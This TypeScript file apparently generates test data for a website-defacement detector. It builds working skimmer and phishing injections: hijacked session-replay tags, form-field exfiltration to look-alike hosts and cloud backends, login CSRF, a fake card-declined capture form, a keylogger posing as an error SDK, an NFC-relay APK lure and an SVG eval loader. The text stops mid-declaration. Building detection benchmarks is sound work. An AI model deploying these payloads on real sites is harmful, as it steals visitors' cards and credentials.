/**
 * Fresh18 defacement classes: written after round 17, by someone who does
 * not read the engines, from public descriptions of real defacements,
 * skimmers, phishing kits, SEO spam and scams. New techniques and
 * placements: a real session-replay tag (Smartlook, LogRocket, Hotjar,
 * Mouseflow, Clarity) under the intruder's project with input masking
 * turned off (and unmasking attributes on the site's own fields), a
 * skimmer dressed as an address-autocomplete service from a look-alike
 * host, a login CSRF that signs visitors into the intruder's account on
 * the site, a skimmer writing form fields into a no-code cloud backend
 * (Firebase Realtime Database, Supabase, Google Forms), a double-entry
 * "payment declined, please re-enter your card" form shown after the
 * site's own form is sent, a keystroke logger dressed as an
 * error-monitoring SDK, a "tap your card on your phone" NFC-relay app lure
 * (NGate), a loader in an SVG script element inside an icon sprite and a
 * real card element of a payment provider under the intruder's
 * publishable key; defacer presentations not used before (a Windows stop
 * screen, a "R.I.P. security" tombstone, a playable canvas game or
 * password-guessing game "for the admin", the site's text blacked out as a
 * redacted document, a maintenance-mode page switched on by the intruder,
 * a "404 – X not found" pun page, an "activate Windows" style watermark
 * and the organisation's name replaced by a parody of it); hacktivist
 * presentations not used before (a forced apology in the organisation's
 * own voice, "PROPAGANDA" stamps on the site's headlines, an
 * animal-rights operation against whaling, dolphin hunts, fur or
 * bullfighting); and scam and spam verticals not used before ("dating
 * safety ID" verification traps, front-running "MEV bot" contracts to
 * deploy on Remix, Chinese private-detective spam, Gulf domestic-worker
 * "transfer" adverts in Arabic, grey-market Windows and Office keys,
 * pre-IPO shares of famous private companies, "customer service jobs in
 * Thailand" scam-compound recruitment, gift-card exchange rates for naira
 * and cedis, celebrity "fan cards" and Brazilian "consórcio contemplado"
 * letters). Each differs from every class in defacements.ts and
 * fresh-defacements.ts through fresh17-defacements.ts (not a re-wording of
 * one) and varies its templates, languages, domains, positions and sizes.
 * The writer had no internet access: every source below is recalled from
 * memory, with its outlet and an approximate date where known, and its
 * comment says so. Scored in the `fresh18` group, never tuned on.
 */
import { type ChangeClass, bottom, brandName, elAt, forms, head, shown, top, trimmed } from "./classes.js"
import type { Page } from "./corpus.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, someDate } from "./locales.js"
import { attrInsertAt } from "./locate.js"
import { type Rng, alnum, between, chance, digits, hex, pick, sample, upper } from "./rng.js"
import { brandLookalike, libLookalike, nick, randomDomain, signature, slug, team } from "./words.js"

const fresh18 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh18", make })

/** A JavaScript string literal that cannot close the script element it sits in. */
const js = (s: string) => JSON.stringify(s).replace(/</g, "\\u003c")
const wrapScript = (rng: Rng, code: string) =>
  `<script${chance(rng, 0.2) ? ` type="text/javascript"` : ""}>${pick(rng, [() => code, () => `(function(){${code}})();`, () => `window.addEventListener("load",function(){${code}});`])()}</script>`
const tld = (rng: Rng) => pick(rng, ["com", "net", "top", "xyz", "site", "online", "shop", "info", "click", "icu", "live", "pro", "vip", "org", "cc", "store", "io", "app", "biz", "me", "eu", "asia"])
/** Just after the head's open tag (the end of the head when the page has no head element). */
const headStart = (page: Page) => page.spots.elements.find((e) => e.name === "head" && !e.inBody)?.openEnd ?? head(page)
/** Where a script goes: the start or end of the head, top, middle or bottom of the body. */
const scriptSpot = (rng: Rng, page: Page) => pick(rng, [head(page), headStart(page), top(page), bottom(page), slotAt(page.spots, "middle")])
/** Near the top of the page, where a notice is read first, or anywhere. */
const noticeSpot = (rng: Rng, page: Page) => pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)])
/** Where a spam block goes: the middle, the bottom, anywhere. */
const spamSpot = (rng: Rng, page: Page) => pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "bottom"), anySlot(rng, page.spots), bottom(page)])
const someSpot = (rng: Rng, page: Page) => pick(rng, [noticeSpot(rng, page), spamSpot(rng, page)])
/** A host a scam runs on: a themed name on a cheap TLD, a random domain, or a look-alike of the site. */
const host = (rng: Rng, page: Page, words: ReadonlyArray<string>) =>
  pick(rng, [() => `${pick(rng, words)}-${pick(rng, ["online", "direct", "club", "global", "now", "hub", "24", "official", "group"])}.${tld(rng)}`, () => `${pick(rng, words)}${digits(rng, 2)}.${tld(rng)}`, () => `${pick(rng, words)}${pick(rng, words)}.${tld(rng)}`, () => randomDomain(rng), () => brandLookalike(rng, page.site.brand)])()
const waLink = (n: string) => `<a href="https://wa.me/${n.replace(/[^0-9]/g, "")}">${esc(n)}</a>`
const tgHandle = (rng: Rng, words: ReadonlyArray<string>) => `${pick(rng, words)}${pick(rng, ["_official", "_admin", "_vip", digits(rng, 2), "_desk", "_team", "_support", "bot"])}`
/** A box around a notice or a spam block, in one of a few looks. */
const box = (rng: Rng, cls: ReadonlyArray<string>, accent: string, inner: string) =>
  `<div class="${pick(rng, cls)}" style="${pick(rng, [`border:2px solid ${accent};background:#fff;padding:14px 16px;margin:12px 0`, `border-top:5px solid ${accent};background:#fafafa;padding:12px 16px;margin:14px 0`, `border:1px solid ${accent};border-radius:10px;background:#fffdf7;padding:16px;margin:12px auto;max-width:720px`, `background:${accent};color:#fff;padding:14px 18px;margin:10px 0`, `outline:3px double ${accent};padding:14px;margin:16px 4px;background:#fff`])};font-family:${pick(rng, ["Arial,sans-serif", "Tahoma,sans-serif", "Verdana,sans-serif", "Georgia,serif", "system-ui,sans-serif", "Trebuchet MS,sans-serif"])}">${inner}</div>`
const button = (rng: Rng, accent: string) => `background:${accent};color:#fff;border:0;padding:${pick(rng, ["8px 16px", "10px 22px", "7px 14px", "12px 26px"])};border-radius:${pick(rng, ["0", "3px", "6px", "22px"])};cursor:pointer;text-decoration:none;display:inline-block`
type Table<A> = Partial<Record<Lang, A>> & { readonly en: A }
/** The site's language most of the time when there is a text for it, else English. */
const some = <A>(rng: Rng, page: Page, table: Table<A>): A => (chance(rng, 0.7) ? table[page.site.locale.lang] ?? table.en : table.en)
const rows = (cells: ReadonlyArray<ReadonlyArray<string>>) => cells.map((r) => `<tr>${r.map((c) => `<td>${c}</td>`).join("")}</tr>`).join("")
const uuid = (rng: Rng) => `${hex(rng, 8)}-${hex(rng, 4)}-4${hex(rng, 3)}-${pick(rng, ["8", "9", "a", "b"])}${hex(rng, 3)}-${hex(rng, 12)}`
const who = (rng: Rng) => pick(rng, [nick(rng), team(rng), nick(rng)])
/** The site's shown form fields a visitor types into. */
const typedInputs = (page: Page) =>
  shown(page, "input", (e) => !e.inert && !["hidden", "submit", "button", "image", "reset", "checkbox", "radio", "file"].includes((e.attribs.type ?? "text").toLowerCase()))
/** Visible text runs inside a heading (h1–h3), at least `min` characters long. */
const headingRuns = (page: Page, min: number) =>
  page.spots.texts.filter((t) => {
    if (t.text.trim().length < min) return false
    for (let e = elAt(page, t.parent); e !== undefined; e = elAt(page, e.parent)) {
      if (!e.shown) return false
      if (/^h[1-3]$/.test(e.name)) return true
    }
    return false
  })
/** Visible text runs inside a paragraph, list item or cell, at least `min` characters long. */
const proseRuns = (page: Page, min: number) =>
  page.spots.texts.filter((t) => {
    if (t.text.trim().length < min || /[{};]\s*$/.test(t.text.trim())) return false
    const el = elAt(page, t.parent)
    return el !== undefined && el.shown && /^(p|li|td|dd|span|em|strong|b|a|div|small|blockquote)$/.test(el.name)
  })

// ———————————————————————————— skimming, redirection and exfiltration ————————————————————————————

// Session replay, recalled from memory of Princeton's "No boundaries" study (Steven Englehardt, Gunes Acar and Arvind Narayanan, November 2017), which showed that session-replay scripts (FullStory, Hotjar, Yandex Metrica, SessionCam, Smartlook...) record what visitors type, sometimes including card numbers and passwords when masking is off, and of the vendors' own settings that switch masking off (Smartlook's record({forms,numbers,emails}), LogRocket's inputSanitizer, Hotjar's data-hj-allow and Clarity's data-clarity-unmask attributes): a real session-replay tag under a project that is not the site's, with input masking turned off, so whoever owns that project watches every keystroke.
const sessionReplayHijack = fresh18("session-replay tag (Smartlook, LogRocket, Hotjar, Mouseflow, Clarity) under the intruder's project with input masking turned off, sometimes unmasking attributes added to the site's own fields", (page, rng) => {
  const kind = pick(rng, ["smartlook", "logrocket", "hotjar", "mouseflow", "clarity"] as const)
  const out: Array<Splice> = []
  const fields = typedInputs(page)
  switch (kind) {
    case "smartlook":
      out.push(insert(pick(rng, [head(page), headStart(page)]), `<script type="text/javascript">window.smartlook||(function(d){var o=smartlook=function(){o.api.push(arguments)},h=d.getElementsByTagName("head")[0];var c=d.createElement("script");o.api=new Array();c.async=true;c.type="text/javascript";c.charset="utf-8";c.src="https://web-sdk.smartlook.com/recorder.js";h.appendChild(c)})(document);smartlook("init","${hex(rng, 40)}",{region:"${pick(rng, ["eu", "us"])}"});smartlook("record",{forms:true,numbers:true,emails:true,ips:true});</script>`))
      break
    case "logrocket":
      out.push(insert(pick(rng, [head(page), headStart(page)]), `<script src="https://cdn.lr-ingest.com/LogRocket.min.js" crossorigin="anonymous"></script><script>window.LogRocket&&window.LogRocket.init("${alnum(rng, 6)}/${slug(nick(rng)) || alnum(rng, 6)}",{dom:{inputSanitizer:false,textSanitizer:false},network:{isEnabled:true}});</script>`))
      break
    case "hotjar":
      out.push(insert(pick(rng, [head(page), headStart(page)]), `<script>(function(h,o,t,j,a,r){h.hj=h.hj||function(){(h.hj.q=h.hj.q||[]).push(arguments)};h._hjSettings={hjid:${between(rng, 1000000, 5999999)},hjsv:6};a=o.getElementsByTagName("head")[0];r=o.createElement("script");r.async=1;r.src=t+h._hjSettings.hjid+j+h._hjSettings.hjsv;a.appendChild(r)})(window,document,"https://static.hotjar.com/c/hotjar-",".js?sv=");</script>`))
      for (const f of sample(rng, fields, 12)) out.push(insert(attrInsertAt(f), " data-hj-allow"))
      break
    case "mouseflow":
      out.push(insert(pick(rng, [head(page), bottom(page)]), `<script type="text/javascript">window._mfq=window._mfq||[];(function(){var mf=document.createElement("script");mf.type="text/javascript";mf.defer=true;mf.src="//cdn.mouseflow.com/projects/${uuid(rng)}.js";document.getElementsByTagName("head")[0].appendChild(mf)})();window._mfq.push(["config","maskInputs",false]);</script>`))
      break
    case "clarity":
      out.push(insert(pick(rng, [head(page), headStart(page)]), `<script type="text/javascript">(function(c,l,a,r,i,t,y){c[a]=c[a]||function(){(c[a].q=c[a].q||[]).push(arguments)};t=l.createElement(r);t.async=1;t.src="https://www.clarity.ms/tag/"+i;y=l.getElementsByTagName(r)[0];y.parentNode.insertBefore(t,y)})(window,document,"clarity","script","${alnum(rng, 10)}");</script>`))
      for (const f of sample(rng, [...forms(page), ...fields], 10)) out.push(insert(attrInsertAt(f), ` data-clarity-unmask="true"`))
      break
  }
  return { splices: out }
})

const addressWords: Table<string> = {
  en: "Start typing your address or postcode", fr: "Commencez à saisir votre adresse ou code postal", de: "Beginnen Sie mit der Eingabe Ihrer Adresse oder Postleitzahl",
  es: "Empieza a escribir tu dirección o código postal", nl: "Begin met het typen van uw adres of postcode", pt: "Comece a digitar seu endereço ou CEP", it: "Inizia a digitare il tuo indirizzo o CAP"
}

// Checkout helpers as disguises, recalled from memory, with uncertain sources, of web-skimming write-ups (Malwarebytes, Sansec, RiskIQ, about 2019–2024) whose skimmer hosts and file names imitate the services a checkout already loads, and of the address-lookup services many UK and European shops add to their address fields (Loqate/PCA Predict, Google Places Autocomplete, getAddress.io, Ideal Postcodes): a script and configuration named after one of them from a look-alike host, which on every "lookup" sends the whole form's fields there, sometimes with a hint under the site's form.
const addressLookupSkimmer = fresh18("skimmer dressed as an address-autocomplete service (Loqate, Google Places, getAddress.io, Ideal Postcodes look-alike) that sends the whole form on each lookup", (page, rng) => {
  const [svc, file] = pick(rng, [["pcapredict", "js/address-3.91.min.js"], ["loqate", "js/capture-interactive.min.js"], ["places-api", "maps/api/js/places.js"], ["getaddress", "scripts/getaddress-autocomplete-1.1.3.min.js"], ["ideal-postcodes", "address-finder-bundled@4/dist/address-finder.min.js"], ["addressy", "js/address.min.js"]] as const)
  const h = pick(rng, [`${svc}-${pick(rng, ["cdn", "js", "api", "static", "services"])}.${tld(rng)}`, `${pick(rng, ["cdn", "services", "api", "js"])}-${svc}.${tld(rng)}`, `${svc}${pick(rng, ["js", "cdn", "api"])}.${tld(rng)}`, libLookalike(rng)])
  const key = `${upper(rng, 2)}${digits(rng, 2)}-${upper(rng, 2)}${digits(rng, 2)}-${upper(rng, 2)}${digits(rng, 2)}-${upper(rng, 2)}${digits(rng, 2)}`
  const find = `https://${h}/Capture/Interactive/Find/v1.10/json3.ws`
  const code = `var K=${js(key)};function c(){var o={u:location.href};document.querySelectorAll("input,select").forEach(function(e){if(e.name||e.id)o[e.name||e.id]=e.value});return o}function q(e){var t=e.target;if(!t||!t.form)return;var p=c();p.Text=t.value;fetch(${js(find)}+"?Key="+K,{method:"POST",mode:"no-cors",body:JSON.stringify(p)})}document.addEventListener("${pick(rng, ["change", "blur", "focusout"])}",q,true);document.addEventListener("submit",function(e){navigator.sendBeacon(${js(find)}+"?Key="+K+"&f=1",JSON.stringify(c()))},true);`
  const tags = `<script src="https://${h}/${file}?key=${key}" async></script>${wrapScript(rng, code)}`
  const out: Array<Splice> = [insert(scriptSpot(rng, page), tags)]
  const f = forms(page)[0]
  if (f !== undefined && f.closeTag !== null && chance(rng, 0.5)) out.push(insert(f.closeTag.start, `<small class="${pick(rng, ["pca-hint", "address-hint", "lookup-hint"])}" style="display:block;color:#777">🔎 ${esc(some(rng, page, addressWords))}</small>`))
  return { splices: out }
})

// Login CSRF, recalled from memory of Adam Barth, Collin Jackson and John C. Mitchell, "Robust Defenses for Cross-Site Request Forgery" (ACM CCS, 2008), which described forcing a victim's browser to sign in to the attacker's account (their examples: PayPal, so the victim's card is added to the attacker's account, and Google, so the victim's searches are recorded there), and of OWASP's CSRF prevention cheat sheet, which warns that login forms need the same protection: a hidden frame and form, or a fetch, that signs the visitor into the intruder's account on the site's own sign-in path, so cards, addresses and messages they save go to that account.
const loginCsrf = fresh18("login CSRF: hidden form or fetch signing each visitor into the intruder's account on the site's own sign-in path, so what they save lands in that account", (page, rng) => {
  const user = `${pick(rng, ["shop", "user", "client", "account", "guest", "member"])}${digits(rng, 3)}@${pick(rng, ["proton.me", "gmx.com", "outlook.com", "mail.com", "yandex.com", "tutanota.com"])}`
  const pass = `${alnum(rng, 6)}${upper(rng, 2)}!${digits(rng, 2)}`
  const [path, fields] = pick(rng, [
    () => ["/wp-login.php", { log: user, pwd: pass, rememberme: "forever", "wp-submit": "Log In" }] as const,
    () => ["/account/login", { form_type: "customer_login", utf8: "✓", "customer[email]": user, "customer[password]": pass }] as const,
    () => ["/customer/account/loginPost/", { "login[username]": user, "login[password]": pass, persistent_remember_me: "on" }] as const,
    () => [pick(rng, ["/login", "/signin", "/user/login", "/auth/login"]), { email: user, password: pass, remember: "1" }] as const
  ])()
  const frame = `f${alnum(rng, 6)}`
  const ping = `https://${pick(rng, [randomDomain(rng), libLookalike(rng)])}/${pick(rng, ["i", "px", "hit"])}?s=${encodeURIComponent(page.site.host)}`
  const gate = `!document.cookie.match(/${pick(rng, ["_lc", "lcs", "_sx"])}=/)`
  const html = pick(rng, [
    () => `<iframe name="${frame}" style="display:none" width="0" height="0"></iframe><form id="${frame}f" action="${esc(path)}" method="post" target="${frame}" style="display:none">${Object.entries(fields).map(([k, v]) => `<input type="hidden" name="${esc(k)}" value="${esc(v)}">`).join("")}</form>${wrapScript(rng, `if(${gate}){document.cookie="${frame}=1;max-age=2592000;path=/";document.getElementById("${frame}f").submit();new Image().src=${js(ping)}}`)}`,
    () => wrapScript(rng, `if(${gate}){var b=new URLSearchParams(${JSON.stringify(fields).replace(/</g, "\\u003c")});fetch(${js(path)},{method:"POST",credentials:"include",body:b}).then(function(){document.cookie="${frame}=1;max-age=2592000;path=/";new Image().src=${js(ping)}})}`)
  ])()
  return splices(insert(pick(rng, [bottom(page), top(page)]), html))
})

// No-code backends as drops, recalled from memory, with uncertain sources, of phishing-kit and skimmer reports (Trustwave, Netskope, Sansec and others, about 2020–2024) on stolen data posted to Firebase Realtime Database URLs, Google Forms "formResponse" endpoints and similar hosted backends that need no server of the attacker's own, and of Supabase's public REST API keyed by an anon key: a script copying the site's form fields on submit or change into such a backend.
const cloudBackendDrop = fresh18("skimmer writing the site's form fields into a hosted no-code backend (Firebase Realtime Database, Supabase REST, Google Forms formResponse)", (page, rng) => {
  const collect = `var o={h:location.host,t:Date.now()},f=e.target.form||e.target;if(!f||!f.elements)return;for(var i=0;i<f.elements.length;i++){var x=f.elements[i];if(x.name&&x.value&&x.type!=="submit")o[x.name]=x.value}`
  const send = pick(rng, [
    () => `fetch(${js(`https://${slug(page.site.brand).slice(0, 12) || "app"}-${alnum(rng, 5)}-default-rtdb.${pick(rng, ["firebaseio.com", "europe-west1.firebasedatabase.app"])}/${pick(rng, ["logs", "c", "data", "s"])}.json`)},{method:"POST",body:JSON.stringify(o)})`,
    () => `fetch(${js(`https://${alnum(rng, 20)}.supabase.co/rest/v1/${pick(rng, ["events", "leads", "t"])}`)},{method:"POST",headers:{apikey:${js(`eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.${alnum(rng, 60)}.${alnum(rng, 43)}`)},"Content-Type":"application/json"},body:JSON.stringify({d:o})})`,
    () => `var p=new URLSearchParams();p.append("entry.${digits(rng, 9)}",JSON.stringify(o));p.append("entry.${digits(rng, 9)}",location.href);fetch(${js(`https://docs.google.com/forms/d/e/1FAIpQL${alnum(rng, 50)}/formResponse`)},{method:"POST",mode:"no-cors",body:p})`
  ])()
  const code = `document.addEventListener("${pick(rng, ["submit", "submit", "change"])}",function(e){${collect};${send}},true);`
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

const declinedWords: Table<readonly [string, string, string, string]> = {
  en: ["Payment could not be processed", "Your card was declined by the payment provider. Please re-enter your card details to complete your order.", "Cardholder name", "Try again"],
  fr: ["Le paiement n'a pas pu être traité", "Votre carte a été refusée par le prestataire de paiement. Veuillez ressaisir vos coordonnées bancaires pour finaliser la commande.", "Titulaire de la carte", "Réessayer"],
  de: ["Zahlung konnte nicht verarbeitet werden", "Ihre Karte wurde vom Zahlungsdienstleister abgelehnt. Bitte geben Sie Ihre Kartendaten erneut ein, um die Bestellung abzuschließen.", "Karteninhaber", "Erneut versuchen"],
  es: ["No se ha podido procesar el pago", "El proveedor de pagos ha rechazado tu tarjeta. Vuelve a introducir los datos de la tarjeta para completar el pedido.", "Titular de la tarjeta", "Reintentar"],
  nl: ["Betaling kon niet worden verwerkt", "Uw kaart is geweigerd door de betaalprovider. Voer uw kaartgegevens opnieuw in om uw bestelling af te ronden.", "Naam kaarthouder", "Opnieuw proberen"],
  pt: ["Não foi possível processar o pagamento", "Seu cartão foi recusado pela operadora. Digite novamente os dados do cartão para concluir o pedido.", "Nome do titular", "Tentar novamente"],
  it: ["Impossibile elaborare il pagamento", "La tua carta è stata rifiutata dal gestore dei pagamenti. Inserisci di nuovo i dati della carta per completare l'ordine.", "Titolare della carta", "Riprova"]
}

// Double-entry skimmers, recalled from memory of Sansec's write-ups (about 2020–2022) of Magento skimmers that show their own payment form first and then an error ("payment failed, please try again") so the shopper enters the card a second time into the real form, and of similar "card declined" overlays on WooCommerce shops: a hidden "payment could not be processed" window that appears once the site's own form is sent, asks for the card again and posts it to another host before letting the original form through.
const doubleEntry = fresh18("double-entry skimmer: a hidden 'payment could not be processed, re-enter your card' window shown after the site's own form is sent, posting the card to another host", (page, rng) => {
  const [h, p, holder, cta] = some(rng, page, declinedWords)
  const id = `pm${alnum(rng, 6)}`
  const sink = `https://${pick(rng, [libLookalike(rng), brandLookalike(rng, page.site.brand), randomDomain(rng)])}/${pick(rng, ["pay/verify", "api/3ds", "checkout/retry", "v2/auth"])}`
  const input = (name: string, ph: string, w: string) => `<input name="${name}" placeholder="${esc(ph)}" autocomplete="off" style="padding:8px;margin:4px 0;width:${w};box-sizing:border-box">`
  const modal = `<div id="${id}" style="display:none;position:fixed;inset:0;background:rgba(0,0,0,.55);z-index:2147483000"><form style="background:#fff;max-width:380px;margin:14vh auto;padding:22px;border-radius:8px;font-family:system-ui,Arial,sans-serif"><p style="color:#c62828;font-weight:bold;margin:0 0 6px">⚠ ${esc(h)}</p><p style="font-size:14px">${esc(p)}</p>${input("n", holder, "100%")}${input("c", "1234 5678 9012 3456", "100%")}${input("e", "MM/YY", "48%")} ${input("v", "CVC", "48%")}<button type="submit" style="${button(rng, "#1565c0")};width:100%;margin-top:8px">${esc(cta)}</button></form></div>`
  const code = `var m=document.getElementById("${id}"),k="${id}",held=null;document.addEventListener("submit",function(e){var f=e.target;if(f.parentNode===m){e.preventDefault();var d=new FormData(f);d.append("h",location.host);fetch(${js(sink)},{method:"POST",mode:"no-cors",body:d});sessionStorage.setItem(k,"1");m.style.display="none";if(held)HTMLFormElement.prototype.submit.call(held);return}if(sessionStorage.getItem(k))return;e.preventDefault();held=f;m.style.display="block"},true);`
  return splices(insert(pick(rng, [bottom(page), top(page), slotAt(page.spots, "bottom")]), modal + wrapScript(rng, code)))
})

// Monitoring SDKs as disguises, recalled from memory, with uncertain sources, of skimmer and loader reports (about 2020–2024) naming their hosts and globals after error-monitoring and analytics products, and of the real Sentry browser SDK snippet (Sentry.init with a DSN on an ingest host, from browser.sentry-cdn.com) and Bugsnag's: an "error monitoring" snippet from a look-alike CDN with a DSN on a look-alike ingest host, plus a "breadcrumbs" handler that buffers every key typed in the site's fields and posts it there as if it were an error report.
const monitoringKeylogger = fresh18("keystroke logger dressed as an error-monitoring SDK (Sentry or Bugsnag look-alike CDN and ingest host) posting typed input as 'breadcrumbs'", (page, rng) => {
  const [vendor, global] = pick(rng, [["sentry", "Sentry"], ["bugsnag", "Bugsnag"], ["rollbar", "Rollbar"], ["trackjs", "TrackJS"]] as const)
  const cdn = pick(rng, [`browser.${vendor}-cdn.${tld(rng)}`, `${vendor}-cdn.${tld(rng)}`, `js.${vendor}-io.${tld(rng)}`, `cdn-${vendor}.${tld(rng)}`])
  const ingest = pick(rng, [`o${digits(rng, 6)}.ingest.${vendor}-io.${tld(rng)}`, `sessions.${vendor}-cdn.${tld(rng)}`, `${vendor}-ingest.${tld(rng)}`])
  const key = hex(rng, 32)
  const project = digits(rng, 7)
  const code = `window.${global}=window.${global}||{};var B=[],U=${js(`https://${ingest}/api/${project}/envelope/?sentry_key=${key}`)};document.addEventListener("keyup",function(e){var t=e.target;if(!t||t.tagName!=="INPUT")return;B.push({c:"ui.input",n:t.name||t.id||t.type,v:t.value,ts:Date.now()});if(B.length>${between(rng, 8, 30)}){fetch(U,{method:"POST",mode:"no-cors",keepalive:true,body:JSON.stringify({event_id:Date.now().toString(16),breadcrumbs:B.splice(0)})})}},true);window.addEventListener("pagehide",function(){if(B.length)navigator.sendBeacon(U,JSON.stringify({breadcrumbs:B}))});`
  const init = `${global}.init&&${global}.init({dsn:${js(`https://${key}@${ingest}/${project}`)},tracesSampleRate:${pick(rng, ["0.1", "0.2", "1.0"])},environment:"production"});`
  const tags = `<script src="https://${cdn}/${pick(rng, ["7.119.0", "8.33.1", "v7", "latest"])}/bundle.min.js" crossorigin="anonymous"${chance(rng, 0.5) ? " defer" : ""}></script>${wrapScript(rng, code + init)}`
  return splices(insert(pick(rng, [head(page), headStart(page), head(page), bottom(page)]), tags))
})

const nfcWords: Table<(bank: string) => readonly [string, string, ReadonlyArray<string>, string]> = {
  en: (b) => [`${b}: confirm your card for contactless payments`, "New security rules require every card to be re-verified. Install the card protection app, then hold your card against the back of your phone and enter your PIN in the app.", ["Download the app (Android)", "Allow installation from this source", "Tap your card on the back of the phone", "Enter your card PIN"], "Download the app"],
  fr: (b) => [`${b} : confirmez votre carte pour le paiement sans contact`, "De nouvelles règles de sécurité imposent de revérifier chaque carte. Installez l'application de protection, posez votre carte au dos du téléphone et saisissez votre code dans l'application.", ["Téléchargez l'application (Android)", "Autorisez l'installation depuis cette source", "Posez la carte au dos du téléphone", "Saisissez le code de la carte"], "Télécharger l'application"],
  de: (b) => [`${b}: Bestätigen Sie Ihre Karte für kontaktloses Bezahlen`, "Neue Sicherheitsregeln verlangen eine erneute Prüfung jeder Karte. Installieren Sie die Kartenschutz-App, halten Sie die Karte an die Rückseite Ihres Handys und geben Sie Ihre PIN in der App ein.", ["App herunterladen (Android)", "Installation aus dieser Quelle erlauben", "Karte an die Rückseite des Handys halten", "Karten-PIN eingeben"], "App herunterladen"],
  es: (b) => [`${b}: confirma tu tarjeta para pagos sin contacto`, "Las nuevas normas de seguridad exigen verificar de nuevo cada tarjeta. Instala la app de protección, acerca la tarjeta a la parte trasera del móvil e introduce el PIN en la app.", ["Descarga la app (Android)", "Permite la instalación desde este origen", "Acerca la tarjeta a la parte trasera del móvil", "Introduce el PIN de la tarjeta"], "Descargar la app"],
  nl: (b) => [`${b}: bevestig uw pas voor contactloos betalen`, "Nieuwe veiligheidsregels vereisen dat elke pas opnieuw wordt gecontroleerd. Installeer de app voor pasbeveiliging, houd uw pas tegen de achterkant van uw telefoon en voer uw pincode in de app in.", ["Download de app (Android)", "Sta installatie uit deze bron toe", "Houd de pas tegen de achterkant van de telefoon", "Voer de pincode van de pas in"], "App downloaden"],
  pt: (b) => [`${b}: confirme seu cartão para pagamentos por aproximação`, "Novas regras de segurança exigem a revalidação de todos os cartões. Instale o app de proteção, encoste o cartão na parte de trás do celular e digite a senha no app.", ["Baixe o app (Android)", "Permita a instalação desta fonte", "Encoste o cartão atrás do celular", "Digite a senha do cartão"], "Baixar o app"],
  it: (b) => [`${b}: conferma la carta per i pagamenti contactless`, "Le nuove regole di sicurezza richiedono di verificare di nuovo ogni carta. Installa l'app di protezione, appoggia la carta sul retro del telefono e inserisci il PIN nell'app.", ["Scarica l'app (Android)", "Consenti l'installazione da questa fonte", "Appoggia la carta sul retro del telefono", "Inserisci il PIN della carta"], "Scarica l'app"]
}

// NFC relay, recalled from memory of ESET Research's write-up of NGate (Lukáš Štefanko, August 2024): customers of Czech banks were sent to look-alike bank pages and web apps, then told to install an app that asked them to hold their card to the phone and type its PIN, while the app relayed the card's NFC data (through the NFCGate research tool) to an attacker's phone at a cash machine; later reports (about 2024–2025) saw the same lure elsewhere: a "confirm your card for contactless payments" notice in a bank's name with steps and an APK download from a look-alike host.
const nfcRelayLure = fresh18("'confirm your card for contactless payments: install the app and tap your card on your phone' notice with an APK from a look-alike bank host (NFC relay, NGate)", (page, rng) => {
  const bank = pick(rng, [brandName(page), `${brandName(page)} ${pick(rng, ["Bank", "Pay", "Card", "Wallet"])}`, pick(rng, ["Card Protect", "SecureCard", "Visa Secure", "Mastercard ID Check"])])
  const [h, p, steps, cta] = some(rng, page, nfcWords)(bank)
  const h2 = pick(rng, [brandLookalike(rng, page.site.brand), `${pick(rng, ["card", "secure", "nfc", "verify"])}-${slug(page.site.brand) || "bank"}.${tld(rng)}`, host(rng, page, ["cardverify", "nfcsecure", "bankapp", "cardprotect"])])
  const apk = `https://${h2}/${pick(rng, ["app", "download", "android", "m"])}/${pick(rng, ["CardProtect", "SecureCard", "NFCVerify", slug(page.site.brand) || "bank"])}-${between(rng, 1, 4)}.${between(rng, 0, 9)}.apk`
  const inner = `<h3 style="margin-top:0">📲 ${esc(h)}</h3><p>${esc(p)}</p><ol>${steps.map((s) => `<li>${esc(s)}</li>`).join("")}</ol><p><a href="${esc(apk)}" style="${button(rng, "#2e7d32")}">${esc(cta)}</a></p>`
  return splices(insert(noticeSpot(rng, page), box(rng, ["card-security", "notice", "bank-alert"], pick(rng, ["#2e7d32", "#0d47a1", "#b71c1c"]), inner)))
})

// SVG script elements, recalled from memory of PortSwigger's and OWASP's XSS cheat sheets (an SVG <script href> or xlink:href runs like an HTML one) and, with uncertain sources, of web-skimming reports (about 2020–2022) on skimmers hidden in SVG markup that reviewers read as icons: an invisible inline icon sprite of a few symbols whose SVG script element loads or decodes code from another host.
const svgSpriteLoader = fresh18("loader in an SVG script element (href, xlink:href or base64 text) inside an invisible inline icon sprite", (page, rng) => {
  const h = pick(rng, [libLookalike(rng), randomDomain(rng), brandLookalike(rng, page.site.brand)])
  const src = `https://${h}/${pick(rng, ["icons/sprite.js", "svg/icons.min.js", "assets/ico.js", "img/symbols.js"])}?v=${between(rng, 1, 9)}${digits(rng, 2)}`
  const payload = pick(rng, [
    () => `var s=document.createElement("script");s.src="${src}";document.head.appendChild(s)`,
    () => `document.addEventListener("submit",function(e){var f=e.target,o={};for(var i=0;i<f.elements.length;i++){var x=f.elements[i];if(x.name)o[x.name]=x.value}navigator.sendBeacon("https://${h}/i",JSON.stringify(o))},true)`
  ])()
  const script = pick(rng, [
    () => `<script href="${src}"></script>`,
    () => `<script xlink:href="${src}"></script>`,
    () => `<script type="text/ecmascript">eval(atob("${Buffer.from(payload).toString("base64")}"))</script>`
  ])()
  const symbols = Array.from({ length: between(rng, 2, 6) }, () => `<symbol id="${pick(rng, ["icon", "i", "ico", "svg"])}-${pick(rng, ["cart", "search", "user", "menu", "close", "arrow", "phone", "mail"])}-${alnum(rng, 3)}" viewBox="0 0 24 24"><path d="M${between(rng, 1, 12)} ${between(rng, 1, 12)}l${between(rng, 2, 9)} ${between(rng, 2, 9)}h${between(rng, 2, 9)}v${between(rng, 2, 9)}z"></path></symbol>`).join("")
  const svg = `<svg xmlns="http://www.w3.org/2000/svg"${script.includes("xlink") ? ` xmlns:xlink="http://www.w3.org/1999/xlink"` : ""} style="${pick(rng, ["position:absolute;width:0;height:0;overflow:hidden", "display:none", "width:0;height:0;position:absolute"])}" aria-hidden="true"><defs>${symbols}</defs>${script}</svg>`
  return splices(insert(pick(rng, [top(page), bottom(page), slotAt(page.spots, "middle"), anySlot(rng, page.spots)]), svg))
})

const payWords: Table<(amount: string) => readonly [string, string, string]> = {
